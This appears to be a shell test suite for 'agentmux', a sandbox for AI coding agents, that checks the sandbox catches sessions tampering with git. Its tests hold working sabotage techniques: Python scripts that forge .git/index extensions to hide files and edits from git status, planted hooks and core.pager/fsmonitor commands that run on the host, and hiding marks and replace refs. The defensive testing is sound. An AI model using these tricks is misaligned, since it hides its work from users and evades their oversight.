	(cd "$P" && mkdir -p src2 && echo 'int a;' >src2/a.c &&
	    git add src2/a.c && git commit -qm src2 &&
	    git update-index --untracked-cache &&
	    git -c core.untrackedCache=true status >/dev/null 2>&1) ||
	    { bad "untr: no untracked cache"; return; }
	untr_py "$P/.git/amx-untr.py"
	jrun -- sh -c "$AFTER_MTIME"'
	    echo "import os" >src2/conftest.py; after_mtime src2;
	    git -c core.untrackedCache=true status >/dev/null 2>&1;
	    /usr/bin/python3 /.agentmux-git/amx-untr.py .git/index src2 conftest.py'
	case $OUT in *patched*) ok ;; *) bad "untr: the forgery did not apply: $OUT" ;; esac
	case $OUT in *"the untracked cache in .git/index"*"was made or changed in the session"*"agentmux dropped it"*) ok ;;
	*) bad "untr: a forged untracked cache was not told: $OUT" ;; esac
	case $OUT in *"the untracked cache in .git/index"*"it hid 1 untracked files from your git status: src2/conftest.py;"*) ok ;;
	*) bad "untr: the file a forged untracked cache hid was not named: $OUT" ;; esac
	case $(git -C "$P" status --porcelain 2>&1) in *"?? src2/conftest.py"*) ok ;;
	*) bad "untr: the user's git status does not show src2/conftest.py: $(git -C "$P" status --porcelain 2>&1)" ;; esac
	case $("$AMX" show last 2>&1) in *"untracked cache"*) ok ;;
	*) bad "untr: show does not tell it" ;; esac
	rm -f "$P/src2/conftest.py" "$P/.git/amx-untr.py"
	git -C "$P" update-index --no-untracked-cache 2>/dev/null
	git -C "$P" reset -q --hard "$base"
	rm -rf "$P/src2"
}

# Forged fsmonitor data: the jail's git, run with a monitor that never
# reports a change, writes .git/index's FSMN with every entry trusted, and
# then README is edited. The user's git with core.fsmonitor on (the stand-
# in answers as a monitor asked with a forged token would: nothing since)
# would show no change. The data changed in the session is dropped, said.
fsmn() {
	printf '#!/bin/sh\nprintf "%%s\\0" "$2"\n' >"$T/fsm-hook"
	chmod +x "$T/fsm-hook"
	jrun -- sh -c "$AFTER_MTIME"'
	    printf "#!/bin/sh\nprintf \"t1\\\\0\"\n" >/tmp/h &&
	    chmod +x /tmp/h && m="-c core.fsmonitor=/tmp/h
	    -c core.fsmonitorHookVersion=2" && git $m update-index --fsmonitor &&
	    git $m status >/dev/null && echo evil >>README && after_mtime README &&
	    git $m status --porcelain && grep -q FSMN .git/index && echo forged'
	case $OUT in *" M README"*) bad "fsmn: the jail's monitor did not hide the edit: $OUT" ;;
	*forged*) ok ;; *) bad "fsmn: the forgery did not apply: $OUT" ;; esac
	case $OUT in *"the fsmonitor data in .git/index"*"made or changed in the session"*"agentmux dropped it"*) ok ;;
	*) bad "fsmn: forged fsmonitor data was not told: $OUT" ;; esac
	grep -q FSMN "$P/.git/index" && bad "fsmn: the forged fsmonitor data stayed in .git/index" || ok
	st=$(git -C "$P" -c core.fsmonitor="$T/fsm-hook" \
	    -c core.fsmonitorHookVersion=2 status --porcelain 2>&1)
	case $st in *" M README"*) ok ;;
	*) bad "fsmn: the user's git with core.fsmonitor does not show the edit: $st" ;; esac
	case $("$AMX" show last 2>&1) in *"fsmonitor data"*) ok ;;
	*) bad "fsmn: show does not tell it" ;; esac
	git -C "$P" checkout -q -- README
}

# The forged untracked cache hidden from the check as the reviewer's
# untr2.py hides it: four bytes of padding after the last extension (git
# stops reading extensions there), or the real cache kept first and the
# forged one after it (git uses the last). Either is dropped, said forged.
untr_hidden() {
	for how in pad dup; do
		base=$(git -C "$P" rev-parse HEAD)
		(cd "$P" && mkdir -p src2 && echo 'int a;' >src2/a.c &&
		    git add src2/a.c && git commit -qm src2 &&
		    git update-index --untracked-cache &&
		    git -c core.untrackedCache=true status >/dev/null 2>&1) ||
		    { bad "untr $how: no untracked cache"; return; }
		cat >"$P/.git/amx-untr.py" <<-'PY'
		import sys, hashlib, struct, re
		p, d, v, how = sys.argv[1], sys.argv[2].encode(), sys.argv[3].encode(), sys.argv[4]
		body = open(p, 'rb').read()[:-20]
		n = struct.unpack('>I', body[8:12])[0]
		off = 12
		for i in range(n):
		    nl = struct.unpack('>H', body[off + 60:off + 62])[0] & 0xfff
		    off += (62 + nl + 8) & ~7
		out = bytearray(body[:off])
		forged = b''
		while off < len(body):
		    sig = body[off:off + 4]
		    sz = struct.unpack('>I', body[off + 4:off + 8])[0]
		    data = body[off + 8:off + 8 + sz]
		    if sig == b'UNTR':
		        m = re.search(b'\x01\x00' + re.escape(d + b'\0' + v + b'\0'), data)
		        f = data[:m.start()] + b'\x00\x00' + d + b'\0' + data[m.end():]
		        forged = sig + struct.pack('>I', len(f)) + f
		        print('patched')
		        if how == 'pad':
		            data = f
		    out += sig + struct.pack('>I', len(data)) + data
		    off += 8 + sz
		out += forged if how == 'dup' else b'\0\0\0\0'
		out += hashlib.sha1(out).digest()
		open(p, 'wb').write(out)
		PY
		jrun -- sh -c "$AFTER_MTIME"'
		    echo "import os" >src2/conftest.py; after_mtime src2;
		    git -c core.untrackedCache=true status >/dev/null 2>&1;
		    /usr/bin/python3 /.agentmux-git/amx-untr.py .git/index src2 conftest.py '$how'
		    git -c core.untrackedCache=true status --porcelain'
		case $OUT in *patched*) ok ;; *) bad "untr $how: the forgery did not apply: $OUT" ;; esac
		case $OUT in *"?? src2/conftest.py"*) bad "untr $how: the forgery did not blind git status (the check is void): $OUT" ;; *) ok ;; esac
		case $OUT in *"the untracked cache in .git/index"*"forged"*"agentmux dropped it"*) ok ;;
		*) bad "untr $how: a hidden forged untracked cache was not told: $OUT" ;; esac
		case $(git -C "$P" -c core.untrackedCache=true status --porcelain 2>&1) in *"?? src2/conftest.py"*) ok ;;
		*) bad "untr $how: the user's git status does not show src2/conftest.py: $(git -C "$P" status --porcelain 2>&1)" ;; esac
		rm -f "$P/src2/conftest.py" "$P/.git/amx-untr.py"
		git -C "$P" update-index --no-untracked-cache 2>/dev/null
		git -C "$P" reset -q --hard "$base"
		rm -rf "$P/src2"
	done
}

# The reviewer's tree.py into $1: "python3 $1 INDEX DIR TREE" points the
# cache-tree's entry for DIR at TREE (the index's checksum made again).
tree_py() {
	cat >"$1" <<-'PY'
	import sys, hashlib, struct
	p, d, sha = sys.argv[1], sys.argv[2].encode(), bytes.fromhex(sys.argv[3])
	body = open(p, 'rb').read()[:-20]
	assert struct.unpack('>I', body[4:8])[0] == 2
	n = struct.unpack('>I', body[8:12])[0]
	off = 12
	for i in range(n):
	    nl = struct.unpack('>H', body[off + 60:off + 62])[0] & 0xfff
	    off += (62 + nl + 8) & ~7
	out = bytearray(body[:off])
	while off < len(body):
	    sig = body[off:off + 4]
	    sz = struct.unpack('>I', body[off + 4:off + 8])[0]
	    data = bytearray(body[off + 8:off + 8 + sz])
	    j = 0
	    while sig == b'TREE' and j < len(data):
	        z = data.index(b'\0', j)
	        nlx = data.index(b'\n', z)
	        cnt = int(data[z + 1:nlx].split(b' ')[0])
	        path, j = bytes(data[j:z]), nlx + 1
	        if cnt >= 0:
	            if path == d:
	                data[j:j + 20] = sha
	                print('patched')
	            j += 20
	    out += sig + struct.pack('>I', len(data)) + data
	    off += 8 + sz
	out += hashlib.sha1(out).digest()
	open(p, 'wb').write(out)
	PY
}

# A forged cache-tree (the reviewer's tree.py): the TREE extension's entry
# for src2 points at a tree the session made, whose a.c is not the
# index's. Nothing changes in the work tree, and git commit -a would take
# the session's src2/a.c. It is dropped and told, naming src2/; one that
# git's own commit changed is dropped with a plain note.
tree_forged() {
	base=$(git -C "$P" rev-parse HEAD)
	(cd "$P" && mkdir -p src2 && echo 'int a;' >src2/a.c &&
	    git add src2/a.c && git commit -qm src2 && git read-tree HEAD) ||
	    { bad "tree: no cache-tree"; return; }
	tree_py "$P/.git/amx-tree.py"
	jrun -- sh -c 'b=$(echo "int evil;" | git hash-object -w --stdin) &&
	    t=$(printf "100644 blob $b\ta.c\n" | git mktree) &&
	    git read-tree HEAD &&
	    /usr/bin/python3 /.agentmux-git/amx-tree.py .git/index src2 $t'
	case $OUT in *patched*) ok ;; *) bad "tree: the forgery did not apply: $OUT" ;; esac
	case $OUT in *"the cache-tree in"*"was forged in the session; it disagreed with the index entries for src2/:"*"agentmux dropped it"*) ok ;;
	*) bad "tree: a forged cache-tree was not told: $OUT" ;; esac
	case $("$AMX" show last 2>&1) in *"cache-tree"*) ok ;;
	*) bad "tree: show does not tell it" ;; esac
	# The user looks (git status refreshes the index), then commits.
	(cd "$P" && git status --porcelain >/dev/null && echo typo >>README &&
	    git commit -qam typo) || bad "tree: the user's commit failed"
	case $(git -C "$P" show HEAD:src2/a.c 2>&1) in *evil*) bad "tree: the user's commit took the session's src2/a.c" ;;
	*"int a;"*) ok ;; *) bad "tree: src2/a.c is not in the user's commit" ;; esac
	jrun -- sh -c 'echo more >>README && git -c user.email=a@b -c user.name=a commit -qam more && echo committed'
	case $OUT in *committed*"the cache-tree in"*"changed in the session and agreed"*) ok ;;
	*) bad "tree: a cache-tree git changed was not noted plainly: $OUT" ;; esac
	case $OUT in *forged*) bad "tree: a cache-tree git changed was called forged: $OUT" ;; *) ok ;; esac
	rm -f "$P/.git/amx-tree.py"
	git -C "$P" reset -q --hard "$base"
	rm -rf "$P/src2"
}

# Hooks kept in the tree: the dir the user's core.hooksPath names (read
# from .git/config, nothing run), husky's, pre-commit's, asdf's and mise's
# files and VS Code workspaces. Read-only where they exist, flagged when
# they change.
HOOKS='tools/git-hooks/pre-commit .husky/pre-commit .githooks/pre-push
.pre-commit-config.yaml .tool-versions .mise.toml mise.toml p.code-workspace'

hooks() {
	for f in $HOOKS; do
		mkdir -p "$P/$(dirname "$f")"
		echo "orig $f" >"$P/$f"
	done
	git -C "$P" config core.hooksPath ./tools/git-hooks/
	jrun -- sh -c 'for f in '"$(echo $HOOKS)"'; do
	    echo "touch '"$MARK"'" >$f; rm -f $f; mv $f $f.x; done 2>/dev/null
	    mv tools/git-hooks tools/old 2>/dev/null
	    echo "touch '"$MARK"'" >tools/git-hooks/post-commit; echo tried'
	case $OUT in *tried*) ok ;; *) bad "the attempts did not run: $OUT" ;; esac
	for f in $HOOKS; do
		[ "$(cat "$P/$f" 2>/dev/null)" = "orig $f" ] && ok ||
		    bad "the jail changed the protected $f: $(cat "$P/$f" 2>&1)"
	done
	[ ! -e "$P/tools/git-hooks/post-commit" ] && ok ||
	    bad "the jail added a hook to the dir core.hooksPath names"
	(cd "$P" && git commit -q --allow-empty -m t) 2>/dev/null
	pwned && bad "git commit on the host ran a hook written in the jail" || ok
	# core.hooksPath reached through a link in the tree: the real dir.
	ln -s tools/git-hooks "$P/hooks"
	git -C "$P" config core.hooksPath hooks
	jrun -- sh -c 'echo "touch '"$MARK"'" >tools/git-hooks/pre-commit
	    echo "touch '"$MARK"'" >hooks/pre-commit; echo tried' 2>/dev/null
	[ "$(cat "$P/tools/git-hooks/pre-commit")" = \
	    "orig tools/git-hooks/pre-commit" ] && ok ||
	    bad "the jail changed a hook core.hooksPath reaches through a link"
	rm -f "$P/hooks"
	# protect = none: the agent may change them; flagged, the hooks dir
	# named by an absolute core.hooksPath too.
	rm -rf "$P/tools"
	for f in $HOOKS; do
		mkdir -p "$P/$(dirname "$f")"
		echo "orig $f" >"$P/$f"
	done
	git -C "$P" config core.hooksPath "$P/tools/git-hooks"
	printf '[jail]\nprotect = none\n' >>"$XDG_CONFIG_HOME/agentmux/config"
	jrun -- sh -c 'echo "touch '"$MARK"'" >tools/git-hooks/pre-commit &&
	    echo x >.husky/pre-commit && echo x >p.code-workspace &&
	    echo x >.pre-commit-config.yaml && true'
	case $OUT in *"tools/git-hooks/pre-commit changed in the session (git runs its hooks: your core.hooksPath"*) ok ;;
	*) bad "a changed hook under core.hooksPath was not flagged: $OUT" ;; esac
	for f in .husky/pre-commit p.code-workspace .pre-commit-config.yaml; do
		case $OUT in *"$f changed in the session"*) ok ;;
		*) bad "a change to $f was not flagged: $OUT" ;; esac
	done
	ln -s tools "$P/lnk"
	git -C "$P" config core.hooksPath lnk/git-hooks
	jrun -- sh -c 'echo "touch '"$MARK"'" >lnk/git-hooks/pre-commit'
	case $OUT in *"tools/git-hooks/pre-commit changed in the session (git runs its hooks"*) ok ;;
	*) bad "a hook changed through core.hooksPath's link was not flagged: $OUT" ;; esac
	jrun -- sh -c 'mkdir -p t2/git-hooks && rm lnk && ln -s t2 lnk'
	case $OUT in *"lnk changed in the session"*) ok ;;
	*) bad "the link on the way to core.hooksPath's dir was replaced unflagged: $OUT" ;; esac
	rm -rf "$P/lnk" "$P/t2"
	sed -i '/^\[jail\]/,$d' "$XDG_CONFIG_HOME/agentmux/config"
	git -C "$P" config --unset core.hooksPath
	for f in $HOOKS; do rm -f "$P/$f"; done
	rm -rf "$P/tools" "$P/.husky" "$P/.githooks" "$P"/*.x "$P"/.*.x
	rm -f "$MARK"
}

# Files made in one session and moved into place, dir and all, in the
# next (review 14, found 2026-12-07): a dir's rename changes its own ctime,
# not that of what it holds, so the hooks core.hooksPath names (a dir not
# there at the start), a .claude dir at the top and an app/.vscode one
# level down came in with old times and were never told. Now what lies
# in a dir the session changed is told all the same; a session that
# changes no such dir says nothing of them.
moved_in() {
	: "${MARK:=$T/outside/PWNED}"
	git -C "$P" config core.hooksPath .githooks
	jrun -- sh -c 'mkdir -p stage/hooks stage/cl app/vsc &&
	    printf "#!/bin/sh\ntouch '"$MARK"'\n" >stage/hooks/pre-commit &&
	    chmod 755 stage/hooks/pre-commit &&
	    echo "{\"hooks\": {\"SessionStart\": []}}" >stage/cl/settings.json &&
	    echo "{\"runOn\": \"folderOpen\"}" >app/vsc/tasks.json && echo staged'
	case $OUT in *staged*) ok ;; *) bad "moved_in: staging failed: $OUT" ;; esac
	# Files your tools run in a monorepo, there before (review 16: each
	# told whenever a file was added beside their dirs, or saved by rename).
	mkdir -p "$P/packages/a" "$P/packages/b/.vscode"
	echo 'export A=1' >"$P/packages/a/.envrc"
	echo '{}' >"$P/packages/b/.vscode/settings.json"
	echo 'x' >"$P/packages/a/index.js"
	sleep 1.1
	jrun -- sh -c 'echo x >src.c && mkdir -p packages/d && echo y >packages/d/index.js &&
	    sed -i s/x/z/ packages/a/index.js && echo z >packages/b/new.js'
	case $OUT in *"lies in"*) bad "moved_in: a session that moved nothing told: $OUT" ;; *) ok ;; esac
	rm -rf "$P/packages"
	jrun -- sh -c 'mv stage/hooks .githooks && mv stage/cl .claude &&
	    mv app/vsc app/.vscode && echo moved'
	case $OUT in *moved*) ok ;; *) bad "moved_in: the moves failed: $OUT" ;; esac
	for f in .githooks/pre-commit .claude/settings.json app/.vscode/tasks.json; do
		case $OUT in *"$f lies in "*"which the session made or moved there"*) ok ;;
		*) bad "moved_in: $f, moved in with its dir, was not told: $OUT" ;; esac
	done
	show=$("$AMX" show last 2>&1)
	case $show in *".githooks/pre-commit lies in"*) ok ;; *) bad "moved_in: show does not tell it: $show" ;; esac
	git -C "$P" config --unset core.hooksPath
	rm -rf "$P/stage" "$P/.githooks" "$P/.claude" "$P/app" "$P/src.c"
	rm -f "$MARK"
}

# The user's own git config reaching into the project (review 14: a
# dotfiles repository as the project): the file the user's git config
# (under XDG_CONFIG_HOME) links to, and a file ~/.gitconfig includes, are
# read-only in the jail, so no core.pager or fsmonitor lands in them for
# the host's next git to run (before: both were written, nothing said).
user_gitconfig() {
	mkdir -p "$P/dot" "$XDG_CONFIG_HOME/git"
	printf '[user]\n\tname = t\n' >"$P/dot/gitconfig"
	printf '[alias]\n\tst = status\n' >"$P/dot/shared"
	ln -sf "$P/dot/gitconfig" "$XDG_CONFIG_HOME/git/config"
	# (--file: with no ~/.gitconfig, --global would write the linked file.)
	git config --file "$HOME/.gitconfig" --add include.path "$P/dot/shared"
	jrun -- sh -c 'printf "[core]\n\tpager = touch /tmp/x\n" >>dot/gitconfig
	    printf "[core]\n\tfsmonitor = touch /tmp/x\n" >>dot/shared; echo tried' 2>/dev/null
	case $OUT in *tried*) ok ;; *) bad "user_gitconfig: the writes did not run: $OUT" ;; esac
	[ "$(cat "$P/dot/gitconfig")" = "$(printf '[user]\n\tname = t')" ] && ok ||
	    bad "the jail changed the file the user's git config links to: $(cat "$P/dot/gitconfig")"
	[ "$(cat "$P/dot/shared")" = "$(printf '[alias]\n\tst = status')" ] && ok ||
	    bad "the jail changed a file ~/.gitconfig includes: $(cat "$P/dot/shared")"
	git config --file "$HOME/.gitconfig" --unset-all include.path
	rm -f "$XDG_CONFIG_HOME/git/config"
	rm -rf "$P/dot"
}

# A nested repository's git dir leading into the project (review 14): a
# hook that is a link to a project file, a file its config includes, the
# dir its core.hooksPath names (relative to its worktree): read-only in
# the jail as the project's own are, so the host's git commit there runs
# nothing the session wrote (before: all three were rewritten and ran).
nested_links() {
	: "${MARK:=$T/outside/PWNED}"
	mkdir -p "$P/scripts" "$P/tools" "$P/nhooks"
	printf '#!/bin/sh\nexit 0\n' >"$P/scripts/pre-commit"
	printf '#!/bin/sh\nexit 0\n' >"$P/nhooks/post-commit"
	chmod 755 "$P/scripts/pre-commit" "$P/nhooks/post-commit"
	printf '[user]\n\tname = t\n' >"$P/tools/shared.gitconfig"
	(cd "$P" && git init -q vendor/lib && cd vendor/lib && git config user.email t@x &&
	    git config user.name t && echo a >a && git add a && git commit -qm a &&
	    ln -s ../../../../scripts/pre-commit .git/hooks/pre-commit &&
	    git config include.path ../../../tools/shared.gitconfig) ||
	    { bad "nested_links: cannot make the nested repository"; return; }
	(cd "$P/vendor/lib" && git config core.hooksPath ../../nhooks &&
	    ln -s "$P/scripts/pre-commit" ../../nhooks/pre-commit) 2>/dev/null
	jrun -- sh -c 'for f in scripts/pre-commit nhooks/post-commit; do
	    printf "#!/bin/sh\ntouch '"$MARK"'\n" >$f; done
	    printf "[core]\n\tfsmonitor = touch '"$MARK"'\n" >>tools/shared.gitconfig
	    echo x >nhooks/pre-push; echo tried' 2>/dev/null
	case $OUT in *tried*) ok ;; *) bad "nested_links: the writes did not run: $OUT" ;; esac
	[ "$(cat "$P/scripts/pre-commit")" = "$(printf '#!/bin/sh\nexit 0')" ] && ok ||
	    bad "the jail changed the project file a nested repository's hook links to"
	[ "$(cat "$P/nhooks/post-commit")" = "$(printf '#!/bin/sh\nexit 0')" ] && ok ||
	    bad "the jail changed a hook in the dir a nested repository's core.hooksPath names"
	[ ! -e "$P/nhooks/pre-push" ] && ok ||
	    bad "the jail added a hook to the dir a nested repository's core.hooksPath names"
	grep -q fsmonitor "$P/tools/shared.gitconfig" &&
	    bad "the jail changed a file a nested repository's config includes" || ok
	(cd "$P/vendor/lib" && echo b >b && git add b && git commit -qm b && git status) >/dev/null 2>&1
	pwned && bad "the host's git in a nested repository ran what the session wrote: $OUT" || ok
	rm -rf "$P/scripts" "$P/tools" "$P/nhooks" "$P/vendor"
	rm -f "$MARK"
}

# A hook linked from .git/hooks into the tree, a tracked file .git/config
# includes, the dir a global core.hooksPath names: read-only in the jail;
# with protect = none, flagged.
hook_links() {
	# core.hooksPath from the user's own ~/.gitconfig: read-only too.
	mkdir -p "$P/ghooks" && echo orig >"$P/ghooks/pre-commit"
	git config --global core.hooksPath ghooks
	jrun -- sh -c 'echo "touch '"$MARK"'" >>ghooks/pre-commit' 2>/dev/null
	[ "$(cat "$P/ghooks/pre-commit")" = orig ] && ok ||
	    bad "the jail changed a hook the global core.hooksPath names"
	git config --global --unset core.hooksPath
	rm -rf "$P/ghooks"
	mkdir -p "$P/scripts"
	echo orig >"$P/scripts/pre-commit"
	echo '# orig' >"$P/.gitconfig"
	ln -s ../../scripts/pre-commit "$P/.git/hooks/pre-commit"
	mkdir -p "$P/.git/own" && echo orig >"$P/.git/own/post-commit"
	ln -s ../own/post-commit "$P/.git/hooks/post-commit"
	git -C "$P" config include.path ../.gitconfig
	edit='echo "touch '"$MARK"'" >>scripts/pre-commit;
	    echo "touch '"$MARK"'" >>.git/own/post-commit;
	    printf "[core]\n\tfsmonitor = \"touch '"$MARK"'; false\"\n" >>.gitconfig'
	jrun -- sh -c "$edit; echo tried" 2>/dev/null
	case $OUT in *tried*) ok ;; *) bad "the edits did not run: $OUT" ;; esac
	[ "$(cat "$P/scripts/pre-commit")" = orig ] && ok ||
	    bad "the jail changed a hook linked from .git/hooks"
	[ "$(cat "$P/.gitconfig")" = '# orig' ] && ok ||
	    bad "the jail changed a file .git/config includes"
	[ "$(cat "$P/.git/own/post-commit")" = orig ] && ok ||
	    bad "the jail changed a hook linked from .git/hooks into .git"
	(cd "$P" && git status >/dev/null 2>&1)
	pwned && bad "git status on the host ran the jail's fsmonitor" || ok
	printf '[jail]\nprotect = none\n' >>"$XDG_CONFIG_HOME/agentmux/config"
	jrun -- sh -c "$edit"
	case $OUT in *"scripts/pre-commit changed in the session (git runs or reads it: a link in a hooks dir"*) ok ;;
	*) bad "a change to a linked hook was not flagged: $OUT" ;; esac
	case $OUT in *".gitconfig changed in the session (git runs or reads it"*) ok ;;
	*) bad "a change to an included file was not flagged: $OUT" ;; esac
	sed -i '/^\[jail\]/,$d' "$XDG_CONFIG_HOME/agentmux/config"
	git -C "$P" config --unset include.path
	rm -rf "$P/scripts" "$P/.gitconfig" "$P/.git/hooks/pre-commit" \
	    "$P/.git/hooks/post-commit" "$P/.git/own"
	rm -f "$MARK"
}

# The user's own git blinded: index entries marked skip-worktree or
# assume-unchanged, a replace ref, info/exclude and info/grafts. The
# files of info/ are read-only; marks and replace refs made in the session
# are flagged (run, show, diff), one there before is not; undo --refs
# deletes the replace ref.
blind() {
	(cd "$P" && echo pre >pre && echo a >a2 && git add pre a2 &&
	    git commit -qm blind && git update-index --assume-unchanged pre) ||
	    exit 1
	jrun -- sh -c 'echo evil >>README && git update-index --skip-worktree README &&
	    echo evil >>a2 && git update-index --assume-unchanged a2 &&
	    git -c user.name=x -c user.email=x@x commit -q --allow-empty -m benign &&
	    git replace HEAD HEAD~1 && echo marked;
	    { echo evil.sh >>.git/info/exclude; echo x >.git/info/grafts;
	    mv .git/info .git/info-old; } 2>/dev/null; true'
	case $OUT in *marked*) ok ;; *) bad "the marks were not made: $OUT" ;; esac
	grep -q evil.sh "$P/.git/info/exclude" 2>/dev/null &&
	    bad "the jail wrote .git/info/exclude" || ok
	[ ! -e "$P/.git/info/grafts" ] && [ -d "$P/.git/info" ] && ok ||
	    bad "the jail made .git/info/grafts or moved .git/info"
	case $OUT in *"README was marked skip-worktree"*) ok ;;
	*) bad "a skip-worktree mark was not flagged: $OUT" ;; esac
	case $OUT in *"a2 was marked assume-unchanged"*) ok ;;
	*) bad "an assume-unchanged mark was not flagged: $OUT" ;; esac
	case $OUT in *"pre was marked"*) bad "a mark there before was flagged: $OUT" ;; *) ok ;; esac
	case $OUT in *"made the replace ref refs/replace/"*) ok ;;
	*) bad "a replace ref was not flagged: $OUT" ;; esac
	show=$("$AMX" show last 2>&1)
	case $show in *"README was marked skip-worktree"*"replace ref"*) ok ;;
	*) bad "show does not flag the marks and the replace ref: $show" ;; esac
	diff=$("$AMX" diff last 2>&1)
	case $diff in *"README was marked skip-worktree"*) ok ;;
	*) bad "diff does not flag the mark: $diff" ;; esac
	out=$("$AMX" undo last --refs 2>&1)
	[ -z "$(git -C "$P" replace -l)" ] && ok ||
	    bad "undo --refs left the session's replace ref: $out"
	case $out in *"delete  refs/replace/"*) ok ;;
	*) bad "undo --refs did not say it deleted the replace ref: $out" ;; esac
	git -C "$P" update-index --no-assume-unchanged pre 2>/dev/null
	git -C "$P" update-index --no-skip-worktree README 2>/dev/null
	git -C "$P" update-index --no-assume-unchanged a2 2>/dev/null
	(cd "$P" && git checkout -q -- README a2 2>/dev/null)
}

# An index entry's object id rewritten back to the blob it had, the new
# stat data kept (the file's mtime set back, so that git does not take the
# entry as racy): the user's git status shows the changed file as clean.
# The end snapshot hashed the file: the session is flagged (run, show),
# naming it quoted, with what to do; a file staged as git does is not.
index_rewrite() {
	esc=$(printf '\033')
	(cd "$P" && echo 'int a;' >'we ird.c' && echo 'int b;' >"e${esc}[31m.c" &&
	    echo 'int c;' >staged.c && git add . && git commit -qm rw) || exit 1
	jrun -- sh -c 'forge() {
	        o=$(git rev-parse ":$1") && echo "int evil;" >>"$1" &&
	        touch -d @$(($(date +%s) - 10)) "$1" &&
	        git add -- "$1" && n=$(git rev-parse ":$1") &&
	        python3 -c "import hashlib, sys
o, n = bytes.fromhex(sys.argv[1]), bytes.fromhex(sys.argv[2])
d = open(\".git/index\", \"rb\").read()[:-20]
assert d.count(n) == 1
d = d.replace(n, o)
open(\".git/index\", \"wb\").write(d + hashlib.sha1(d).digest())" "$o" "$n"; }
	    forge "we ird.c" && forge "$(printf "e\033[31m.c")" &&
	    echo "int d;" >>staged.c && git add staged.c && echo forged'
	case $OUT in *forged*) ok ;; *) bad "the index was not rewritten: $OUT" ;; esac
	st=$(git -C "$P" status --porcelain 2>&1)
	case $st in *ird.c*|*31m.c*) bad "the rewrite did not blind git status (the check is void): $st" ;; *) ok ;; esac
	case $OUT in *"we ird.c: its entry in .git/index was rewritten"*"touch -- we ird.c"*) ok ;;
	*) bad "a rewritten index entry was not flagged: $OUT" ;; esac
	case $OUT in *'"e\033[31m.c": its entry in .git/index was rewritten'*) ok ;;
	*) bad "the rewritten entry with a control character was not flagged, escaped: $OUT" ;; esac
	case $OUT in *"$esc"*) bad "a control character was printed raw: $OUT" ;; *) ok ;; esac
	case $OUT in *"staged.c"*) bad "an entry staged as git does was flagged: $OUT" ;; *) ok ;; esac
	case $("$AMX" show last 2>&1) in *"we ird.c: its entry in .git/index was rewritten"*) ok ;;
	*) bad "show does not flag the rewritten index entry" ;; esac
	touch -- "$P/we ird.c"
	case $(git -C "$P" status --porcelain 2>&1) in *"we ird.c"*) ok ;;
	*) bad "touching the file did not bring the change back to git status" ;; esac
	(cd "$P" && git reset -q --hard && git rm -q -f 'we ird.c' "e${esc}[31m.c" staged.c &&
	    git commit -qm unrw) || exit 1
}

# A nested repository's index used to hide an edit, as the project's own
# is (blind, index_rewrite): a skip-worktree mark, an assume-unchanged one
# and an entry rewritten back to its old blob with the new stat data, in
# lib/.git/index. Each is flagged, naming the nested repository; a mark
# there before is not. Fsmonitor data written there is dropped, said.
nested_index() {
	(cd "$P" && git init -q lib && cd lib && git config user.email t@x &&
	    git config user.name t && echo 1 >a && echo 2 >b && echo 3 >c &&
	    echo 4 >d && git add . && git commit -qm one &&
	    git update-index --assume-unchanged d) || exit 1
	jrun -- sh -c 'cd lib && echo evil >>a && git update-index --skip-worktree a &&
	    echo evil >>b && git update-index --assume-unchanged b &&
	    o=$(git rev-parse :c) && echo "int evil;" >>c &&
	    touch -d @$(($(date +%s) - 10)) c && git add c &&
	    n=$(git rev-parse :c) && python3 -c "import hashlib, sys
o, n = bytes.fromhex(sys.argv[1]), bytes.fromhex(sys.argv[2])
d = open(\".git/index\", \"rb\").read()[:-20]
assert d.count(n) == 1
d = d.replace(n, o)
open(\".git/index\", \"wb\").write(d + hashlib.sha1(d).digest())" "$o" "$n" &&
	    printf "#!/bin/sh\\nprintf \"t1\\\\\\\\0\"\\n" >/tmp/h && chmod +x /tmp/h &&
	    git -c core.fsmonitor=/tmp/h -c core.fsmonitorHookVersion=2 \
	        update-index --fsmonitor && grep -q FSMN .git/index && echo forged'
	case $OUT in *forged*) ok ;; *) bad "nested_index: the forgeries did not apply: $OUT" ;; esac
	case $OUT in *"the fsmonitor data in the index of the nested repository lib was made or changed in the session"*"agentmux dropped it"*) ok ;;
	*) bad "nested_index: fsmonitor data made in lib/.git/index was not told: $OUT" ;; esac
	grep -q FSMN "$P/lib/.git/index" && bad "nested_index: the fsmonitor data stayed in lib/.git/index" || ok
	st=$(git -C "$P/lib" status --porcelain 2>&1)
	[ -z "$st" ] && ok || bad "nested_index: git status in lib was not blinded (the check is void): $st"
	case $OUT in *"lib/a was marked skip-worktree in the index of the nested repository lib"*"git -C lib update-index --no-skip-worktree -- a"*) ok ;;
	*) bad "nested_index: a skip-worktree mark in lib/.git/index was not flagged: $OUT" ;; esac
	case $OUT in *"lib/b was marked assume-unchanged in the index of the nested repository lib"*) ok ;;
	*) bad "nested_index: an assume-unchanged mark in lib/.git/index was not flagged: $OUT" ;; esac
	case $OUT in *"lib/d was marked"*) bad "nested_index: a mark there before was flagged: $OUT" ;; *) ok ;; esac
	case $OUT in *"lib/c: its entry in the index of the nested repository lib was rewritten"*"touch -- lib/c"*) ok ;;
	*) bad "nested_index: a rewritten entry in lib/.git/index was not flagged: $OUT" ;; esac
	case $("$AMX" show last 2>&1) in *"lib/a was marked skip-worktree"*"lib/c: its entry"*|*"lib/c: its entry"*"lib/a was marked skip-worktree"*) ok ;;
	*) bad "nested_index: show does not flag them" ;; esac
	rm -rf "$P/lib"
}

# A nested repository's cache-tree forged as the project's is (tree_forged):
# lib/src in lib/.git/index pointed at a tree the session made. It is
# dropped and told in red, and the user's next commit in lib takes lib's
# own src/a.c.
nested_tree() {
	(cd "$P" && git init -q lib && cd lib && git config user.email t@x &&
	    git config user.name t && mkdir src && echo 'int a;' >src/a.c &&
	    echo r >README && git add . && git commit -qm one &&
	    git read-tree HEAD) || exit 1
	tree_py "$P/lib/.git/amx-tree.py"
	jrun -- sh -c 'cd lib && b=$(echo "int evil;" | git hash-object -w --stdin) &&
	    t=$(printf "100644 blob $b\ta.c\n" | git mktree) &&
	    git read-tree HEAD &&
	    /usr/bin/python3 .git/amx-tree.py .git/index src $t'
	case $OUT in *patched*) ok ;; *) bad "nested_tree: the forgery did not apply: $OUT" ;; esac
	case $OUT in *"the cache-tree in"*"lib/.git/index"*"was forged in the session; it disagreed with the index entries for src/:"*"agentmux dropped it"*) ok ;;
	*) bad "nested_tree: a forged cache-tree in lib/.git/index was not told: $OUT" ;; esac
	(cd "$P/lib" && git status --porcelain >/dev/null && echo typo >>README &&
	    git commit -qam typo) || bad "nested_tree: the user's commit in lib failed"
